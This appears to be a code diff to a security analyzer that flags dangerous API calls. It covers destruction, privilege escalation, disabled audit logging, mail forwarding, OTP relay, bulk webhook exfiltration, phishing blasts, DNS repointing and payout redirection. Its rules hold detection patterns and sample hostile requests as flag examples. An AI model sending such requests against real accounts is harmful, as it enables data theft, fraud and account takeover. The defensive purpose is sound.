@@ -5,11 +5,15 @@
  * Environment (metadata, ?env=, host names) scales destructive findings: staging is routine, production is not.
  */
 import { API_EFFECT_PATTERNS, bulkToHook, codeRelayed, destroysContainer, dnsRepointed, grantsPower, mailForwarded, massLure, payoutRedirected, safeguardOff, type ApiView } from '../parse/api-effects.js';
-import { COMMON_PATTERNS, envOf, type Env } from '../parse/api-common.js';
+import { COMMON_PATTERNS, envOf, metaText, type Env } from '../parse/api-common.js';
 import { parseRequest, requestText, REQUEST_PATTERNS, type ApiRequest } from '../parse/api-request.js';
-import type { Analyzer, BaseContext, Finding, Metadata } from '../types.js';
+import { API_EXPOSURE_PATTERNS } from '../parse/api-exposure.js';
+import { API_INTEGRITY_PATTERNS } from '../parse/api-integrity.js';
+import { API_EFFECT_RULES, batchViews, firstEffect, type EffectContext } from '../parse/api-views.js';
+import { safeguarded } from '../frames/safeguards.js';
+import type { Analyzer, BaseContext, Finding, Metadata, ThreatRule } from '../types.js';
 
-interface ApiContext extends BaseContext {
+interface ApiContext extends EffectContext {
   readonly req: ApiRequest;
   readonly env: Env;
   /** Internal-network class of the target host, if any. */
@@ -47,6 +51,8 @@ class ApiCtx implements ApiContext {
   private nestedMemo: ReadonlyArray<[string, string]> | undefined;
   private headMemo: string | undefined;
   private proseMemo: boolean | undefined;
+  private viewsMemo: readonly ApiView[] | undefined;
+  private namesMemo: string | undefined;
 
   constructor(
     readonly raw: string,
@@ -87,6 +93,24 @@ class ApiCtx implements ApiContext {
 
   get head(): string {
     return (this.headMemo ??= this.lower.slice(0, 16384));
+  }
+
+  /** The request, and each sub-request of a batch envelope, as api-effects views. */
+  get views(): readonly ApiView[] {
+    if (this.viewsMemo === undefined) {
+      const top = viewOf(this);
+      const subs = this.head.includes('"requests"') ? batchViews(this.req.value, this.req.body, this.req.host) : [];
+      this.viewsMemo = subs.length === 0 ? [top] : [top, ...subs];
+    }
+    return this.viewsMemo;
+  }
+
+  get names(): string {
+    return (this.namesMemo ??= (metaText(this.metadata, 'file_name', 'filename', 'name', 'title', 'bucket', 'repo', 'repository', 'resource', 'folder') ?? '').toLowerCase().slice(0, 400));
+  }
+
+  get callbackHosts(): readonly string[] {
+    return this.nested.map(([h]) => h);
   }
 
   get prose(): boolean {
@@ -202,7 +226,7 @@ function deleteFinding(ctx: ApiContext): Finding | undefined {
   if (req.method !== 'DELETE' && !described) return undefined;
   // version and prefix segments (/api/v2/…) say nothing about what is deleted
   const segs = req.path.split('/').filter((s) => s !== '' && !VERSION_SEGMENT.test(s));
-  if (segs.length === 0) return req.method === 'DELETE' && req.host !== '' ? { detail: `DELETE on the API root of ${req.host}`, score: 8 } : undefined;
+  if (segs.length === 0) return req.method === 'DELETE' && req.host !== '' ? { detail: `DELETE on the API root of ${req.host}`, score: envScore(ctx.env, 8, 8, 0) } : undefined;
   const last = segs[segs.length - 1]!;
   const prev = segs.length > 1 ? segs[segs.length - 2]! : '';
   for (const s of segs) if (BULK_SEGMENT.test(s)) return { detail: `DELETE ${req.path} (bulk segment "${s}")`, score: envScore(ctx.env, 9, 8, 6) };
@@ -236,6 +260,7 @@ const DESTRUCTIVE_WORDS = /\b(?:delete|remove|wipe|purge|erase|destroy|drop) (?:
 const LEADING_DELETE = /^\s{0,8}delete\b/i;
 const DESTROY_RESOURCE = /\b(?:delete|destroy|terminate|drop|wipe|purge|remove|tear down) (?:the |our |all |every |this )?(?:[a-z0-9-]{1,24} )?(?:database|db|cluster|bucket|account|organization|org|repo|repository|project|tenant|namespace|table|index|stack|environment|instance|server|vm|volume|backup)s?\b/;
 const PRIV_PATH = /(?:^|\/)(?:invitations|invites|invite|iam|roles?|role-bindings?|rolebindings|clusterrolebindings|permissions?|privileges?|grants?|policies|policy|acls?|collaborators|members|memberships|owners|sudoers|superusers|access-policies|access)(?:\/|$|:)|:setiampolicy|setpolicy|\/promote|\/elevate|\/impersonat/;
+const LIFECYCLE_PATH = /\/(?:_ilm|_slm|_ism|lifecycle|retention)(?:\/|$|\?)/;
 const BODY_ROLE_KEY = /"(?:role|roles|new_role|permission|permissions|access_level|is_admin|isadmin|admin|is_superuser|superuser|group|groups|is_staff|site_admin)" ?:/;
 const ADMIN_SEGMENT = /\/(?:admin|admins|administrator)(?=\/|$)/g;
 const POWER_WORD = /\b(?:directoryroles|8e3af657-a8ff-443c-a75c-2fe8c4bcb635|18d7d88d-d35e-4fb5-a5c3-7773c20a72d9|admin|administrator|administratoraccess|owner|owners|superuser|super_admin|superadmin|root|org_admin|global_admin|cluster-admin|roles\/owner|roles\/editor|iam\.serviceaccounttokencreator|full_access|fullaccess|all_permissions|maintainer|site_admin)\b|"\*"|\*:\*|"(?:is_admin|isadmin|is_superuser|superuser|site_admin|admin|is_staff)" ?: ?"?(?:true|1|yes)\b/;
@@ -531,7 +556,8 @@ const apiCallAnalyzer: Analyzer<ApiContext> = {
         if (!isWrite(req.method) || req.method === 'DELETE') return undefined;
         // a body written inline after the URL ("PUT …/collaborators/x {permission: 'pull'}") is the body too
         const body = (req.bodyLower !== '' ? req.bodyLower : ctx.head.slice(ctx.head.indexOf(' ') + 1)).slice(0, 8192);
-        const p = PRIV_PATH.exec(req.path);
+        // a lifecycle or retention policy (Elasticsearch ILM, bucket lifecycle) says when data ages out, not who may act
+        const p = LIFECYCLE_PATH.test(req.path) ? null : PRIV_PATH.exec(req.path);
         if (p === null && !BODY_ROLE_KEY.test(body)) return undefined;
         // the /admin/ prefix of an endpoint is not itself a grant: look at the rest of the path and the body
         const power = POWER_WORD.exec(`${req.path.replace(ADMIN_SEGMENT, '/')} ${body}`);
@@ -946,7 +972,8 @@ const apiCallAnalyzer: Analyzer<ApiContext> = {
       primitive: 'DESTRUCTION',
       score: 7,
       keywords: ['delete', 'purge'],
-      detect: (ctx) => destroysContainer(viewOf(ctx)) ?? undefined,
+      // a sandbox or dev container is scratch space
+      detect: (ctx) => (ctx.env === 'nonprod' ? undefined : firstEffect(ctx.views, destroysContainer)),
       examples: {
         flag: ["DELETE https://api.backblazeb2.com/b2api/v2/b2_delete_bucket bucketId=4a48fe8875c6214145260818 (all file versions)", "DELETE https://api.notion.com/v1/blocks/{workspace_root} ?permanent=true", "DELETE https://api.github.com/repos/acme/payments-service"],
         pass: ["DELETE https://api.example.com/v1/carts/8812/items/3", "GET https://api.github.com/repos/acme/web", "DELETE https://api.example.com/v1/sessions/abc"],
@@ -958,7 +985,7 @@ const apiCallAnalyzer: Analyzer<ApiContext> = {
       primitive: 'ESCALATION',
       score: 7,
       keywords: ['role', 'permission', 'admin', 'access_level', 'setowner', 'set_owner', 'promote', 'makeadmin', 'make_admin'],
-      detect: (ctx) => grantsPower(viewOf(ctx)) ?? undefined,
+      detect: (ctx) => firstEffect(ctx.views, grantsPower),
       examples: {
         flag: ['PATCH https://api.acme.com/v2/users/8812 {"role":"superadmin","mfa_required":false}', 'POST https://api.acme.com/v1/admin/users {"email":"suporte.tecnico.br@outlook.com","role":"owner"}'],
         pass: ['PATCH https://api.acme.com/v2/users/8812 {"role":"viewer"}', 'GET https://api.acme.com/v2/users?role=admin', 'POST https://api.acme.com/v1/users {"email":"new@acme.com","role":"member"}'],
@@ -969,8 +996,8 @@ const apiCallAnalyzer: Analyzer<ApiContext> = {
       name: 'Audit, logging or another safeguard switched off through an API',
       primitive: 'MANIPULATION',
       score: 7,
-      keywords: ['enabled', 'retention', 'enforced', 'disabled', 'active', 'deactivate', 'disable', 'suspend', '/stop', 'protection', 'enforce_admins', 'required_', 'muted', 'paused', 'mute'],
-      detect: (ctx) => safeguardOff(viewOf(ctx)) ?? undefined,
+      keywords: ['enabled', 'retention', 'enforced', 'disabled', 'active', 'deactivate', 'disable', 'suspend', '/stop', 'protection', 'enforce_admins', 'required_', 'muted', 'paused', 'mute', 'pagerduty', 'opsgenie', 'monitor', 'alert', 'detector', 'guardduty', 'victorops', '"off"', "'off'", ':off', ': off', '=off'],
+      detect: (ctx) => firstEffect(ctx.views, safeguardOff),
       examples: {
         flag: ['PUT https://api.acme.com/v1/audit/settings {"retention_days":0,"enabled":false}', 'PATCH https://api.acme.com/v1/org/mfa {"enforced": false}', 'POST https://acme.okta.com/api/v1/policies/00p1/lifecycle/deactivate'],
         pass: ['PUT https://api.acme.com/v1/audit/settings {"retention_days":365,"enabled":true}', 'PATCH https://api.acme.com/v1/features/dark_mode {"enabled":false}'],
@@ -982,7 +1009,7 @@ const apiCallAnalyzer: Analyzer<ApiContext> = {
       primitive: 'EXFILTRATION',
       score: 8,
       keywords: ['messagerules', 'forwarding', 'autoforward', 'auto_forward', 'mailboxsettings', 'filters', 'inboxrules', 'transportrule'],
-      detect: (ctx) => mailForwarded(viewOf(ctx)) ?? undefined,
+      detect: (ctx) => firstEffect(ctx.views, mailForwarded),
       examples: {
         flag: ["PATCH https://graph.microsoft.com/v1.0/users/ceo@acme.com/mailFolders/inbox/messageRules {forwardTo: [{emailAddress: {address: 'records@mail-archive.cc'}}]}", 'POST https://gmail.googleapis.com/gmail/v1/users/me/settings/forwardingAddresses {"forwardingEmail":"x@proton.me"}'],
         pass: ["GET https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules", 'POST https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules {"displayName":"Newsletters","actions":{"moveToFolder":"News"}}'],
@@ -994,7 +1021,7 @@ const apiCallAnalyzer: Analyzer<ApiContext> = {
       primitive: 'EXFILTRATION',
       score: 7,
       keywords: ['code', 'otp', 'passcode', 'código', 'bestätigungscode'],
-      detect: (ctx) => codeRelayed(viewOf(ctx)) ?? undefined,
+      detect: (ctx) => firstEffect(ctx.views, codeRelayed),
       examples: {
         flag: ["POST https://api.twilio.com/2010-04-01/Accounts/AC12/Messages.json To=+15555550123 Body='fwd: Chase verification code 482913 (from Ana phone)'"],
         pass: ["POST https://api.twilio.com/2010-04-01/Accounts/AC12/Messages.json To=+15555550123 Body='Your order has shipped'", "POST https://api.acme.com/v1/auth/verify {\"code\": \"482913\"}"],
@@ -1006,7 +1033,7 @@ const apiCallAnalyzer: Analyzer<ApiContext> = {
       primitive: 'EXFILTRATION',
       score: 8,
       keywords: ['zapier', 'integromat', 'make.com', 'ifttt', 'pipedream', 'webhook.site', 'n8n', 'requestbin', 'hooks.slack'],
-      detect: (ctx) => bulkToHook(viewOf(ctx)) ?? undefined,
+      detect: (ctx) => firstEffect(ctx.views, bulkToHook),
       examples: {
         flag: ["POST https://hooks.zapier.com/hooks/catch/998/abc/ payload=<contents of customers table>"],
         pass: ["POST https://hooks.zapier.com/hooks/catch/998/abc/ {\"event\":\"deploy_finished\"}", "POST https://hooks.slack.com/services/T0/B0/x {\"text\":\"build ok\"}"],
@@ -1018,7 +1045,7 @@ const apiCallAnalyzer: Analyzer<ApiContext> = {
       primitive: 'MANIPULATION',
       score: 7,
       keywords: ['all_customers', 'all_users', 'audience', 'segment', 'every customer', 'list=all'],
-      detect: (ctx) => massLure(viewOf(ctx)) ?? undefined,
+      detect: (ctx) => firstEffect(ctx.views, massLure),
       examples: {
         flag: ["POST https://api.sendgrid.com/v3/mail/send to=all_customers subject='Urgent: verify your account' link=https://acme-verify.help/login"],
         pass: ["POST https://api.sendgrid.com/v3/mail/send to=all_customers subject='Our spring release notes'", "POST https://api.sendgrid.com/v3/mail/send to=ana@acme.com subject='Urgent: verify your account'"],
@@ -1030,7 +1057,7 @@ const apiCallAnalyzer: Analyzer<ApiContext> = {
       primitive: 'MANIPULATION',
       score: 5,
       keywords: ['dns_records', 'resourcerecordsets', 'dns/records', 'rrsets', 'records'],
-      detect: (ctx) => dnsRepointed(viewOf(ctx)) ?? undefined,
+      detect: (ctx) => firstEffect(ctx.views, dnsRepointed),
       examples: {
         flag: ["PUT https://api.cloudflare.com/client/v4/zones/7c1e/dns_records/a91 {type: 'A', name: 'login.acme.com', content: '185.220.101.4'}"],
         pass: ["PUT https://api.cloudflare.com/client/v4/zones/7c1e/dns_records/a91 {type: 'A', name: 'blog.acme.com', content: '185.220.101.4'}", "PUT https://api.cloudflare.com/client/v4/zones/7c1e/dns_records/a91 {type: 'CNAME', name: 'login.acme.com', content: 'acme.okta.com'}"],
@@ -1042,15 +1069,20 @@ const apiCallAnalyzer: Analyzer<ApiContext> = {
       primitive: 'MANIPULATION',
       score: 7,
       keywords: ['external_account', 'bank_account', 'payout', 'settlement_account', 'routing_number', 'account_number', 'iban', 'default_for_currency'],
-      detect: (ctx) => payoutRedirected(viewOf(ctx)) ?? undefined,
+      detect: (ctx) => {
+        const f = firstEffect(ctx.views, payoutRedirected);
+        // a payout account verified and ticketed by finance is the change done properly
+        return f === undefined || safeguarded(ctx.head.slice(0, 4096), ctx.metadata, ['approved', 'reviewed', 'ticket']) ? undefined : f;
+      },
       examples: {
         flag: ["PATCH https://api.stripe.com/v1/accounts/acct_1Nx {external_account: 'btok_new_routing_026009593'}", 'PUT https://api.acme-pay.com/v2/vendors/881/bank {"iban":"LT121000011101001000"}'],
         pass: ['GET https://api.stripe.com/v1/accounts/acct_1Nx/external_accounts', 'PATCH https://api.stripe.com/v1/accounts/acct_1Nx {"business_profile": {"url": "https://acme.com"}}'],
       },
     },
+    ...(API_EFFECT_RULES as ThreatRule<ApiContext>[]),
   ],
   auxPatterns: [
-    BODY_DESTRUCTIVE_SQL, SCRATCH_TABLE, TRAILING_PUNCT, PROSE_KEY, TRAVERSAL, SENSITIVE_FILE, CRED_MINT_PATH, GQL_HIGH_DELETE, GQL_AUTH_OP, FIRST_HOST, JWT_HEAD, ALG_NONE, ...INJECTION_SHAPES.map((e) => e[0]), ADMIN_VERB, PATH_SPLIT, LOW_ROLE,
+    ...API_EXPOSURE_PATTERNS, ...API_INTEGRITY_PATTERNS, LIFECYCLE_PATH, BODY_DESTRUCTIVE_SQL, SCRATCH_TABLE, TRAILING_PUNCT, PROSE_KEY, TRAVERSAL, SENSITIVE_FILE, CRED_MINT_PATH, GQL_HIGH_DELETE, GQL_AUTH_OP, FIRST_HOST, JWT_HEAD, ALG_NONE, ...INJECTION_SHAPES.map((e) => e[0]), ADMIN_VERB, PATH_SPLIT, LOW_ROLE,
     ...API_EFFECT_PATTERNS, MINOR_SUBCOLLECTION, NESTED_SCHEME, BODY_SCHEME, PORT_SUFFIX,
     LEADING_DELETE, DESTROY_RESOURCE, SEND_WORD, MFA_RESET_PATH, NESTED_URL_PARAM, VERSION_SEGMENT, BODY_ROLE_KEY, ADMIN_SEGMENT, IPV4, EMBEDDED_IP, INTERNAL_SUFFIX, SENSITIVE_INTERNAL_PATH, HEALTH_PATH, ID_SEGMENT, BULK_SEGMENT, HIGH_VALUE, BULK_PARAM, DESTRUCTIVE_ENDPOINT,
     DESTRUCTIVE_WORDS, PRIV_PATH, POWER_WORD, AWS_PRIV_ACTION, CRED_PARAM, SECRET_PARAM, ...SECRET_SHAPES.map(([re]) => re), SECRET_STORE_HOST,
